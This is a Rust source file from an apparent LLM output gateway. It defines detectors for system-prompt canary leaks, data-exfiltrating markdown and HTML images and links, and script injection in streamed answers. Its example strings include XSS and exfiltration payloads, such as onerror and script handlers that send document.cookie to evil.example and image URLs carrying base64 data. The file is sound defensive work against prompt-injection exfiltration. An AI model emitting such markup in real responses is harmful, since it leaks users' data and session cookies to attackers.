//! Fixed formats of LLM output threats, scanned like every other pattern so that streamed
//! responses are checked with the same hold-back as personal data: a value split across events
//! is still caught before any of it is released.
//!
//! The image detectors match the whole construct (an image with its URL, title and closing
//! parenthesis, a reference definition line, an `<img>` tag) and their validators read the URL
//! as a renderer does ([`crate::markup`]): removing a finding takes the whole URL with it, so
//! no query string is left behind.

use rampart_core::{DataClass, Severity};

use crate::detector::{Detector, Gate};
use crate::markup;

/// The LLM output detectors.
pub static DETECTORS: &[Detector] = &[
    Detector::base(
        "canary",
        DataClass::SystemPromptLeak,
        "Canary token",
        r"rampart-canary-[0-9a-f]{16}",
        1.0,
        Severity::High,
    )
    .docs("A canary token the gateway inserted into a system prompt (`llm.systemPromptLeak.canary`): a response that carries one has reproduced the system prompt (OWASP LLM07).")
    .examples(
        &["the marker is rampart-canary-0123456789abcdef."],
        &["rampart-canary-xyz", "rampart-canary-0123"],
    ),
    Detector::base(
        "markdown_image_exfil",
        DataClass::UnsafeOutput,
        "Markdown image carrying data",
        MARKDOWN_IMAGE,
        1.0,
        Severity::High,
    )
    .docs("A markdown image whose URL (absolute or `//`) carries a query string or fragment: a chat client fetches it without a click, so data an injection put in the URL leaves at once (OWASP LLM05). The match is the whole image: alt text, the URL with balanced parentheses or in angle brackets, a title, white space and line breaks inside the parentheses, and the closing `)`. A URL the pattern cannot follow to its end (deep parentheses, escapes, more than 700 bytes) is matched up to the next white space, so the whole URL still goes. Links outside an allowlist, reference-style images and script are found by the output inspection of whole responses.")
    .validate(markdown_image_carries_data)
    .examples(
        &[
            "Done! ![x](https://evil.example/log?q=c2VjcmV0)",
            "![x](https://x.example/a_(b)?q=1 \"title\")",
            "![x](<https://evil.example/a b?d=1>)",
            "![x](\n  https://evil.example/p?d=1\n)",
        ],
        &[
            "![logo](https://cdn.example.com/logo.png)",
            "[docs](https://example.com/?q=1)",
            "![chart](/static/chart.png?v=2)",
        ],
    ),
    Detector::base(
        "markdown_reference_exfil",
        DataClass::UnsafeOutput,
        "Markdown reference definition carrying data",
        MARKDOWN_DEFINITION,
        1.0,
        Severity::High,
    )
    .gate(Gate::Inner {
        literal: "]:",
        within: 105,
    })
    .docs("A markdown reference definition (`[ref]: https://evil.example/?d=…`) whose URL carries a query string or fragment: a reference-style image (`![x][ref]`) fetches it without a click (OWASP LLM05). The match is the definition line with its title; without it, the image that uses it is plain text. A stream cannot tell whether a later image uses the definition, so every such definition is removed.")
    .validate(definition_carries_data)
    .examples(
        &[
            "![x][ref]\n\n[ref]: https://evil.example/log?d=c2VjcmV0",
            "Sources:\n  [1]: <https://evil.example/a b?d=1> \"t\"",
        ],
        &[
            "[ref]: https://example.com/docs/page",
            "see [a]: not a definition https://e.example/?q=1",
        ],
    ),
    Detector::base(
        "html_image_exfil",
        DataClass::UnsafeOutput,
        "HTML image carrying data",
        HTML_IMAGE,
        1.0,
        Severity::High,
    )
    .docs("An HTML `<img>` tag whose `src` or `srcset` URL carries a query string or fragment, with attributes in any order and any quoting (OWASP LLM05). The match is the whole tag; `>` inside quoted values does not end it.")
    .validate(html_image_carries_data)
    .examples(
        &[
            r#"<img alt="a>b" src="https://evil.example/p?d=c2VjcmV0">"#,
            "<IMG width=1 SRC=https://evil.example/p?d=1>",
        ],
        &[
            r#"<img src="https://cdn.example.com/logo.png" alt="logo">"#,
            r#"<img data-src="https://e.example/p?d=1" src="a.png">"#,
        ],
    ),
    Detector::base(
        "markdown_link_exfil",
        DataClass::UnsafeOutput,
        "Markdown link carrying a payload",
        MARKDOWN_LINK,
        1.0,
        Severity::High,
    )
    .gate(LINK_GATE)
    .docs("A markdown link (`[text](url)`) to an absolute URL whose query, fragment or path carries a payload: a value of 24 or more dense characters (base64, percent-encoded text) or a long dense path segment. One click sends the data (OWASP LLM05). The match is the whole link, text and closing `)` included, so a stream loses nothing of the URL; links with ordinary parameters are left alone. Allowlists are applied by the output inspection of whole responses.")
    .validate(markdown_link_carries_payload)
    .examples(
        &[
            "Verify here: [your account](https://evil.example/v?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=)",
            "[docs](<https://evil.example/a b?t=dGhlIHNlY3JldCB0b2tlbiBpcyBoZXJl>)",
        ],
        &[
            "[docs](https://example.com/guide?page=2)",
            "![x](https://evil.example/p?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=)",
            "[a](/relative?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=)",
        ],
    ),
    Detector::base(
        "url_exfil",
        DataClass::UnsafeOutput,
        "URL carrying a payload",
        BARE_URL,
        1.0,
        Severity::High,
    )
    .docs("An absolute `http(s)` URL in text (chat clients turn it into a link) whose query, fragment or path carries a payload, as for `markdown_link_exfil`. The match is the URL up to white space, a quote or a bracket; an image or link around it is matched whole by its own detector.")
    .validate(url_carries_payload)
    .examples(
        &[
            "Open https://evil.example/collect?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk= to continue.",
            "HTTPS://evil.example/c/U2VjcmV0IGRhdGEgaW4gYSBsb25nIHBhdGggc2VnbWVudA",
        ],
        &[
            "See https://docs.example.com/guide?page=2&lang=en for details.",
            "https://example.com/a/b/c",
        ],
    ),
    Detector::base(
        "script_tag",
        DataClass::UnsafeOutput,
        "Script or active HTML tag in a streamed answer",
        r"(?i:<(?:script|iframe|object|embed|frameset|frame|base|meta))\b[^<>]{0,120}>?",
        1.0,
        Severity::High,
    )
    .stream_only()
    .validate(active_tag_start)
    .docs("The opening of a `<script>`, `<iframe>`, `<object>`, `<embed>`, `<frame>`, `<frameset>` or `<base>` tag, or a `<meta http-equiv>` refresh, in a streamed answer outside markdown code (OWASP LLM05). The match runs to the tag's `>` (or 120 bytes: the name is what makes it a tag), so a client that renders HTML gets no script from it; the rest of the answer goes on. `object`, `embed`, `frame`, `frameset` and `base` count only with an attribute that loads something (`src`, `data`, `href`, `srcdoc`, `code`), so `Optional<Base>` in prose stays. Whole answers are read by the output inspection instead (`html_script`), which removes the script's body too.")
    .examples(
        &[
            "Sure!<script>fetch('https://evil.example/?c='+document.cookie)</script>",
            "<IFRAME src=\"https://evil.example\" width=0>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<object data=\"https://evil.example/x.svg\"></object>",
        ],
        &[
            "```html\n<script src=\"app.js\"></script>\n```",
            "Use the `<script>` tag to load it.",
            "<meta charset=\"utf-8\">",
            "a <scripted> reply",
            "if n < base then stop; and i < frame.len() holds",
            "Return an Optional<Base> from the factory.",
        ],
    ),
    Detector::base(
        "event_handler",
        DataClass::UnsafeOutput,
        "Inline event handler in a streamed answer",
        r#"(?i:on[a-z]{3,20})\s{0,16}=\s{0,16}(?:"[^"]{0,400}"?|'[^']{0,400}'?|[^\s>"']{1,400})"#,
        1.0,
        Severity::High,
    )
    .stream_only()
    .surroundings(after_tag_space)
    .docs("An inline event handler attribute (`onerror=`, `onload=`, `onmouseover=`…, any `on` + 3-20 letters followed by `=`) after white space, a quote or `/`, in a streamed answer outside markdown code (OWASP LLM05): the attribute with its value is removed, so the tag around it runs nothing. Whole answers are read by the output inspection (`html_script`).")
    .examples(
        &[
            "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
            "<svg/onload=alert(1)>",
            "<div ONMOUSEOVER='steal()'>hover</div>",
            "<img alt=\">\" src=x onerror=alert(1)>",
            "<img src=x onerror     =alert(1)>",
            "<img alt=\"<\" title=\">\" onerror=alert(1)>",
            "<img alt=\"a long alt text that pads the tag so that its opening bracket is far behind the handler attribute\" onerror=import('//evil.example/x.js')>",
        ],
        &[
            "```html\n<button onclick=\"go()\">Go</button>\n```",
            "Set the `onclick=` attribute in your template.",
            "The option=3 and done=true flags.",
            "We met online = no travel.",
            "Turn it on with onboarding=true.",
        ],
    ),
    Detector::base(
        "script_url_attribute",
        DataClass::UnsafeOutput,
        "Script URL in an HTML attribute of a streamed answer",
        r#"(?i:href|src|action|formaction|xlink:href|data|poster|background|values|to|from)\s{0,4}=\s{0,4}(?:"[^"]{0,600}"?|'[^']{0,600}'?|[^\s>"'\x60]{1,600})"#,
        1.0,
        Severity::High,
    )
    .stream_only()
    .validate(attribute_runs_script)
    .docs("An attribute a browser follows or loads (`href`, `src`, `action`, `formaction`, `xlink:href`, `data`, `poster`, `background`) whose value is a script URL (`javascript:`, `vbscript:`, `data:text/html`), read as a browser reads it: character references decoded, tabs and line breaks dropped (`java&#x09;script:`, `&#106;avascript:`). In a streamed answer outside markdown code (OWASP LLM05); the attribute with its value is removed. Whole answers are read by the output inspection (`html_script`).")
    .examples(
        &[
            "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">claim</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<form action='&#106;avascript:go()'>",
            "<svg><animate attributeName=href values=\"&#106;avascript:alert(1)\"/></svg>",
        ],
        &[
            "<a href=\"https://example.com/docs\">docs</a>",
            "```html\n<a href=\"javascript:void(0)\">x</a>\n```",
            "data = \"javascript is fun\"",
        ],
    ),
    Detector::base(
        "script_link",
        DataClass::UnsafeOutput,
        "Markdown link to a script URL in a streamed answer",
        MARKDOWN_LINK,
        1.0,
        Severity::High,
    )
    .gate(LINK_GATE)
    .stream_only()
    .validate(markdown_link_runs_script)
    .docs("A markdown link whose destination is a script URL (`[claim](javascript:…)`, also spelled with character references), in a streamed answer outside markdown code (OWASP LLM05). The match is the whole link. Whole answers are read by the output inspection (`html_script`).")
    .examples(
        &[
            "[Claim your prize](javascript:fetch('//evil.example/'+document.cookie))",
            "[x](&#106;avascript:alert(1))",
        ],
        &[
            "[docs](https://example.com/guide)",
            "`[x](javascript:void(0))`",
        ],
    ),
    Detector::base(
        "script_url",
        DataClass::UnsafeOutput,
        "Script URL in a streamed answer",
        r#"(?i:javascript|vbscript)\s{0,4}\\?:[^\s"'<>)\x60]{1,400}|(?i:data)\s{0,4}\\?:\s{0,4}(?i:text/html)[^\s"'<>)\x60]{0,400}"#,
        1.0,
        Severity::High,
    )
    .stream_only()
    .surroundings(word_start)
    .docs("A `javascript:`, `vbscript:` or `data:text/html` URL anywhere else in a streamed answer outside markdown code (an autolink, an attribute a browser reads, a bare URL a client links), with something right after the colon (\"JavaScript: the good parts\" is a title, not a URL) (OWASP LLM05). Whole answers are read by the output inspection (`html_script`).")
    .examples(
        &[
            "Click <javascript:alert(document.cookie)>",
            "go to JavaScript:fetch('//evil.example')",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "[x](javascript\\:alert(1))",
        ],
        &[
            "JavaScript: the good parts",
            "Use `javascript:void(0)` sparingly.",
            "myjavascript:x",
        ],
    ),
];

/// Whether a `script_tag` match is active: a `script` or `iframe` always, a `meta` only with
/// `http-equiv`, the others only with an attribute that loads something.
fn active_tag_start(m: &[u8]) -> bool {
    let lower = m.to_ascii_lowercase();
    let name: Vec<u8> = lower
        .iter()
        .skip(1)
        .take_while(|c| c.is_ascii_alphabetic())
        .copied()
        .collect();
    let has = |w: &[u8]| lower.windows(w.len()).any(|x| x == w);
    match name.as_slice() {
        b"script" | b"iframe" => true,
        b"meta" => has(b"http-equiv"),
        _ => [&b"src"[..], b"data", b"href", b"code"]
            .iter()
            .any(|a| has(a)),
    }
}

/// An event handler starts after white space, a quote or `/`, inside a tag: a `<` is nearer
/// before it than a `>`. When neither is within reach (a tag padded with long attributes), the
/// value must read as code (a call, an assignment, a statement, a template), so prose such as
/// "online = no" or "onboarding=true." stays.
fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
    if !before
        .last()
        .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'/'))
    {
        return false;
    }
    let closed_after = |o: usize| {
        let mut quote = None;
        before[o..].iter().any(|&c| match quote {
            Some(q) if c == q => {
                quote = None;
                false
            }
            Some(_) => false,
            None if c == b'"' || c == b'\'' => {
                quote = Some(c);
                false
            }
            None => c == b'>',
        })
    };
    // from a `<`, a `>` outside quoted values closes the tag; any `<` left open counts (the
    // last one may sit inside a quoted value)
    let open = before
        .iter()
        .enumerate()
        .filter(|(_, c)| **c == b'<')
        .map(|(i, _)| i)
        .find(|&o| !closed_after(o))
        .or_else(|| before.iter().rposition(|c| *c == b'<'));
    let close = before.iter().rposition(|c| *c == b'>');
    match (open, close) {
        (Some(o), _) => !closed_after(o),
        (None, Some(_)) => false,
        (None, None) => {
            let code = value
                .iter()
                .position(|c| *c == b'=')
                .map_or(&[][..], |eq| &value[eq + 1..]);
            code.iter().any(|c| b"(`=;".contains(c))
        }
    }
}

/// A scheme starts a word (`myjavascript:` is not a URL).
fn word_start(before: &[u8], _value: &[u8], _after: &[u8]) -> bool {
    before.last().is_none_or(|c| !c.is_ascii_alphanumeric())
}

/// Whether an attribute match's value is a script URL as a browser reads it.
fn attribute_runs_script(m: &[u8]) -> bool {
    let Some(eq) = m.iter().position(|c| *c == b'=') else {
        return false;
    };
    let v = markup::trim(&m[eq + 1..]);
    let v = v
        .strip_prefix(b"\"")
        .or_else(|| v.strip_prefix(b"'"))
        .unwrap_or(v);
    let v = v
        .strip_suffix(b"\"")
        .or_else(|| v.strip_suffix(b"'"))
        .unwrap_or(v);
    std::str::from_utf8(v).is_ok_and(markup::script_url)
}

fn markdown_link_runs_script(m: &[u8]) -> bool {
    inline_after_text(m)
        .is_some_and(|d| std::str::from_utf8(&m[d.url]).is_ok_and(|u| markup::script_url(u.trim())))
}

/// Where a markdown link's `](` is: within the bounded link text after the match start.
const LINK_GATE: Gate = Gate::Inner {
    literal: "](",
    within: 165,
};

/// `![alt](url "title")`, or, when the URL cannot be followed to its `)`, the image up to the
/// next white space. The bounds keep the pattern under the scanner's short-pattern limit and
/// the registry's automata small.
const MARKDOWN_IMAGE: &str = concat!(
    r"!\[[^\[\]]{0,100}(?:\[[^\[\]]{0,30}\][^\[\]]{0,30})?\]\(\s{0,8}",
    r#"(?:(?:<[^<>\n]{1,400}>|[^\s()<\\][^\s()\\]{0,399}(?:\([^\s()\\]{0,60}\)[^\s()\\]{0,100}){0,2})"#,
    r#"(?:\s{1,4}(?:"[^"]{0,60}"|'[^']{0,60}'|\([^()]{0,60}\)))?\s{0,8}\)"#,
    r#"|<?(?i:https?:)?//[^\s"]{1,600})"#,
);

/// `[label]: url "title"` at a line start (or at the start of a JSON string).
const MARKDOWN_DEFINITION: &str = concat!(
    r#"(?:(?m:^)|")(?P<v> {0,3}\[[^\[\]\n]{1,100}\]:[ \t]{0,8}(?:\r?\n[ \t]{0,8})?"#,
    r#"(?:<[^<>\n]{1,400}>|[^\s<]\S{0,499})"#,
    r#"(?:(?:[ \t]{1,8}|[ \t]{0,8}\r?\n[ \t]{0,8})(?:"[^"\n]{0,60}"|'[^'\n]{0,60}'|\([^()\n]{0,60}\)))?[ \t]{0,8})"#,
);

/// `[text](url "title")`; the URL alternatives are those of [`MARKDOWN_IMAGE`]. An image
/// starts one byte earlier, at its `!`, so it is matched whole by its own detector.
const MARKDOWN_LINK: &str = concat!(
    r"\[[^\[\]]{0,100}(?:\[[^\[\]]{0,30}\][^\[\]]{0,30})?\]\(\s{0,8}",
    r#"(?:(?:<[^<>\n]{1,400}>|[^\s()<\\][^\s()\\]{0,399}(?:\([^\s()\\]{0,60}\)[^\s()\\]{0,100}){0,2})"#,
    r#"(?:\s{1,4}(?:"[^"]{0,60}"|'[^']{0,60}'|\([^()]{0,60}\)))?\s{0,8}\)"#,
    r#"|<?(?i:https?:)?//[^\s"]{1,600})"#,
);

/// An absolute http(s) URL up to white space, a quote, a bracket or a backtick.
const BARE_URL: &str = r#"(?i:https?)://[^\s"'<>()\[\]\x60\\]{1,600}"#;

/// `<img …>`: quoted values may hold `>`.
const HTML_IMAGE: &str =
    r#"(?i:<img)[\s/](?:[^>"']{0,100}(?:"[^"]{0,400}"|'[^']{0,400}')){0,3}[^>"']{0,200}>"#;

/// The inline destination of a markdown image or link match (`![alt](…` or `[text](…`): past
/// the `]` that closes the text (which may hold one bracketed pair of its own).
fn inline_after_text(m: &[u8]) -> Option<markup::Destination> {
    let mut depth = 0usize;
    let close = m.iter().skip(1).position(|&c| {
        match c {
            b'[' => depth += 1,
            b']' => depth = depth.saturating_sub(1),
            _ => return false,
        }
        c == b']' && depth == 0
    })?;
    markup::inline_destination(m, close + 3)
}

fn markdown_image_carries_data(m: &[u8]) -> bool {
    inline_after_text(m).is_some_and(|d| markup::fetches_with_data(&m[d.url]))
}

fn definition_carries_data(m: &[u8]) -> bool {
    markup::reference_definition(m, 0).is_some_and(|d| markup::fetches_with_data(&m[d.url]))
}

fn html_image_carries_data(m: &[u8]) -> bool {
    markup::image_sources(m).any(markup::fetches_with_data)
}

fn markdown_link_carries_payload(m: &[u8]) -> bool {
    inline_after_text(m).is_some_and(|d| url_carries_payload(&m[d.url]))
}

fn url_carries_payload(url: &[u8]) -> bool {
    let Ok(url) = std::str::from_utf8(url) else {
        return false;
    };
    let url = url.trim();
    let lower = url.get(..8).unwrap_or(url).to_ascii_lowercase();
    (lower.starts_with("https://") || lower.starts_with("http://") || url.starts_with("//"))
        && markup::carries_payload(url)
}
